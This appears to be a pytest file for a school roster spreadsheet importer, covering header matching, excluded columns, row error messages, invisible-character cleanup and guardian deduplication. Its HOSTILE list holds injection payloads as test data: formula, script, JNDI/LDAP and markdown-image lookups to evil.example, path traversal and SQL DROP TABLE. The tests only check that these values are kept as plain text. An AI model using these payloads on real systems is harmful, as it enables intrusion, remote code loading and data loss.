"""What columns and cells mean, and which rows are refused."""

from __future__ import annotations

import pytest

from core.errors import InputProblem, Severity
from core.rules.imports import cells, columns, guardians, reading
from core.rules.imports.intake import Format, Intake
from core.rules.imports.reading import Choices
from core.rules.spreadsheets import PAGE_LIMITS, Upload

HOSTILE = [
    *("O'Brien", "Null", "=1+1", "＝1", "@SUM(A1)", "<script>alert(1)</script>", "![x](http://evil.example/x.png)"),
    *("{{7*7}}", "${jndi:ldap://evil.example}", "%s%n", "../../etc/passwd", "</para><para>", "'; DROP TABLE person;--"),
    *("I\u0307stanbul", "раураl", "👩‍👩‍👧‍👦", "ﷺ", "Zoe\u0308"),
]


def _list(text: str, *, choices: Choices = reading.NO_CHOICES, name: str = "list.csv") -> Intake:
    found = reading.sheets([Upload(name, text.encode())], limits=PAGE_LIMITS, choices=choices)
    return reading.read(found, choices=choices)


def _messages(intake: Intake, severity: Severity) -> list[tuple[int, str, str]]:
    return [(p.row, p.column, p.message) for p in intake.problems if p.severity == severity]


@pytest.mark.parametrize(
    ("header", "meaning"),
    [
        *(("Student code", "source_id"), ("STUDENT_CODE", "source_id"), (" student-code ", "source_id")),
        *(("Κωδικός", "source_id"), ("ΑΜ", "source_id"), ("Α.Μ.", "source_id"), ("Αριθμός Μητρώου", "source_id")),
        *(("Επώνυμο", "last_name"), ("ΕΠΩΝΥΜΟ", "last_name"), ("Surname", "last_name"), ("Όνομα", "first_name")),
        *(("Τμήμα", "section"), ("Form", "section"), ("Τάξη", "grade"), ("E-mail", "personal_email")),
        *(("Use Personnel E-mail", "use_personal_email"), ("Κινητό κηδεμόνα", "guardian_mobile")),
        *(("Password", ""), ("role", ""), ("Birth date", ""), ("Ημερομηνία Γέννησης", ""), ("Account state", "")),
    ],
)
def test_headers_are_matched_tolerantly(header: str, meaning: str) -> None:
    assert columns.meaning(header) == meaning


@pytest.mark.parametrize("header", ["Password", "ROLE", "Date of birth", "DOB", "Συνθηματικό", "Gender"])
def test_r75_what_is_never_imported_cannot_be_chosen(header: str) -> None:
    assert columns.why_left_out(header) == columns.NEVER_IMPORTED
    assert columns.assign((header,), {header: "last_name"}) == {}


def test_the_fields_own_name_wins_over_a_synonym_and_a_choice_over_both() -> None:
    header = ("Name", "First name", "Surname")
    assert columns.assign(header) == {1: "first_name", 2: "last_name"}
    assert columns.assign(header, {"Name": "first_name"}) == {0: "first_name", 2: "last_name"}


def test_columns_that_are_left_out_are_reported_with_the_reason() -> None:
    intake = _list("Code,Surname,Name,Password,Shoe size,Username\r\n1,Smith,Ann,secret,38,asmith\r\n")
    told = {column.header: (column.meaning, column.reason, column.sample) for column in intake.files[0].columns}
    assert told["Password"] == ("", "never imported", "")
    assert told["Shoe size"] == ("", "not recognised, left out", "38")
    assert told["Username"] == ("", "made by Firstkey itself", "asmith")
    assert told["Surname"] == ("last_name", "", "Smith")


def test_a_list_without_names_says_which_columns_are_missing() -> None:
    with pytest.raises(InputProblem, match=r"recognised as Last name or First name.*it says: Code, Shoe size"):
        _list("Code,Shoe size\r\n1,38\r\n")


def test_a_list_with_only_a_header_is_refused() -> None:
    with pytest.raises(InputProblem, match="no rows"):
        _list("Code,Surname,Name\r\n")


def test_a_person_can_say_what_a_column_means() -> None:
    intake = _list(
        "Nr,Familie,Ruf\r\n7,Groß,Jörg\r\n",
        choices=Choices(meanings={"Nr": "source_id", "Familie": "last_name", "Ruf": "first_name"}),
    )
    assert intake.people[("student", "7")].fields == {"last_name": "Groß", "first_name": "Jörg"}


def test_each_problem_names_its_row_column_value_and_what_to_do() -> None:
    intake = _list(
        "Code,Surname,Name,Status,Use Personal E-mail,E-mail,Language\r\n"
        "1,Smith,Ann,Registered,yes,ann@mail.example,English\r\n"
        ",Smith,Bob,,,,\r\n"
        "1,Smith,Cid,,,,\r\n"
        "3,,,,,,\r\n"
        "4,Smith,Dan,dancing,maybe,,\r\n"
        "5,Smith,Eve,,,not an address,Klingon\r\n"
        "6," + "x" * 101 + ",Fay,,,,\r\n"
        "7,a,b,,,,,surplus\r\n"
    )
    errors = {(row, column) for row, column, _message in _messages(intake, Severity.ERROR)}
    assert errors == {
        *((3, "Code"), (4, "Code"), (5, "Surname"), (6, "Status"), (6, "Use Personal E-mail"), (8, "Surname"), (9, "")),
    }
    assert "stands in row 2 already" in {r: m for r, _c, m in _messages(intake, Severity.ERROR)}[4]
    assert {(row, column) for row, column, _m in _messages(intake, Severity.WARNING)} == {
        (7, "E-mail"),
        (7, "Language"),
    }
    assert intake.people[("student", "5")].fields["personal_email"] == "not an address"


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_names_are_kept_as_text(name: str) -> None:
    cell = '"' + name.replace('"', '""') + '"'
    intake = _list(f"Code,Surname,Name\r\n1,{cell},x\r\n")
    assert not _messages(intake, Severity.ERROR)
    stored = intake.people[("student", "1")].fields["last_name"]
    assert stored == cells.clean(name)
    assert stored.isprintable()


@pytest.mark.parametrize(
    ("typed", "kept"),
    [
        *(("a\x00b", "ab"), ("a\x0bb", "a b"), ("a\u2028b", "a b"), ("a\r\nb", "a b"), ("\u202egnp.exe", "gnp.exe")),
        *(("A\u200bn\u200dn", "Ann"), ("\ufeffAnn", "Ann"), ("Ann\u00a0 Lee ", "Ann Lee"), ("e\u0301", "é")),
        *(("   ", ""), ("a" + "\u0301" * 50, "á\u0301\u0301\u0301"), ("\ue000x", "x")),
    ],
)
def test_r73_what_nobody_can_see_is_taken_out(typed: str, kept: str) -> None:
    assert cells.clean(typed) == kept


def test_no_import_brings_a_username_of_ten_thousand_characters() -> None:
    long = "x" * 10_000
    named = _list(f"Code,Surname,Name,Username\r\n1,Smith,Ann,{long}\r\n")
    assert named.files[0].columns[3].meaning == "" and long not in repr(named.people)
    addressed = _list(f"Code,Surname,Name,O365 address\r\n1,Smith,Ann,{long}@school.example\r\n")
    [(row, column, said)] = _messages(addressed, Severity.ERROR)
    assert (row, column) == (2, "O365 address") and "at most 254 fit. Shorten it." in said


def test_ten_thousand_characters_are_a_problem_not_a_crash() -> None:
    intake = _list("Code,Surname,Name\r\n1," + "x" * 10_000 + ",y\r\n")
    assert "10,000 characters are too many" in intake.problems[0].message
    assert len(intake.problems[0].value) <= 80


def test_taking_out_invisible_characters_is_told() -> None:
    intake = _list("Code,Surname,Name\r\n1,Sm\u200bith,Ann\r\n")
    assert _messages(intake, Severity.WARNING) == [(2, "Surname", "Invisible characters were taken out.")]


def test_siblings_get_one_guardian_and_namesakes_two() -> None:
    intake = _list(
        "Code,Surname,Name,Guardian,Guardian e-mail,Guardian mobile\r\n"
        "1,Σιδέρης,Μάξιμος,Σιδέρη Γεωργία,g@mail.example,6921111111\r\n"
        "2,Σιδέρη,Σοφία,ΣΙΔΕΡΗ ΓΕΩΡΓΙΑ,,6921111111\r\n"
        "3,Other,Otto,Σιδέρη Γεωργία,other@mail.example,\r\n"
    )
    people, answers = guardians.place(intake, known=lambda _code, _name: None)
    assert len(people) == 2
    assert len(answers) == 3
    assert {p.fields["last_name"] for p in people.values()} == {"Σιδέρη", "Γεωργία"}


def test_a_set_with_one_file_or_a_mixture_is_refused_with_advice() -> None:
    with pytest.raises(InputProblem, match="Upload all files of the set"):
        _list("SIS ID,Section Name\r\n1,x\r\n", name="Section.csv")
    uploads = [Upload("a.csv", b"Code,Surname,Name\r\n1,a,b\r\n"), Upload("b.csv", b"Code,Surname,Name\r\n1,a,b\r\n")]
    with pytest.raises(InputProblem, match="one at a time"):
        reading.read(reading.sheets(uploads, limits=PAGE_LIMITS))


def test_a_list_may_be_called_student_csv() -> None:
    assert _list("Code,Surname,Name\r\n1,a,b\r\n", name="Student.csv").format == Format.LIST
